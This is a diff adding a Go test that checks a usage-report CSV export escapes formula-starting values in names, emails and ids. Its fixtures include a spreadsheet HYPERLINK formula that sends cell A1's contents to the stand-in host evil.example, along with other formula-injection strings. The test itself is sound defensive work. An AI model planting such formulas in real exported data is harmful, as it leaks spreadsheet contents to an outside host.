@@ -193,3 +193,50 @@ func TestConversationStatsTolerant(t *testing.T) {
 		t.Errorf("row without stats = %v", row)
 	}
 }
+
+// Issue 11 A1: names, emails and ids that a spreadsheet would run as formulas are written as text, the
+// value still readable after the leading quote.
+func TestUsageReportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	h := newHarness(t)
+	hostile := map[string]string{
+		"f1": `=HYPERLINK("http://evil.example/?"&A1,"x")`,
+		"f2": "+1+1",
+		"f3": "@SUM(1+1)",
+		"f4": "-2+3",
+		"f5": "\t=1+1",
+		"f6": "\r=1+1",
+		"f7": "Plain Name",
+	}
+	for id, name := range hostile {
+		h.addUser(talkiotest.User{ID: id, UserName: name, Email: "=" + id + "@example.com"})
+	}
+	h.addUser(talkiotest.User{ID: "@id", UserName: "Id Person"})
+	h.mustRun(ExitOK, "usage", "report", "--month", "2026-02")
+	_, rows := readReport(t, h)
+	for id, name := range hostile {
+		r := rows[id]
+		want := name
+		if id != "f7" {
+			want = "'" + name
+		}
+		if r == nil || r["user_name"] != want || r["email"] != "'="+id+"@example.com" {
+			t.Errorf("user %s: row %q, want user_name %q and a neutralised email", id, r, want)
+		}
+	}
+	if r := rows["'@id"]; r == nil || r["user_name"] != "Id Person" {
+		t.Errorf("an id starting with @ is not neutralised: rows %v", rows)
+	}
+	// No cell of the output, as a spreadsheet parses it, starts a formula.
+	records, err := csv.NewReader(strings.NewReader(h.stdout.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range records {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell starts with %q: %q", cell[0], cell)
+			}
+		}
+	}
+}
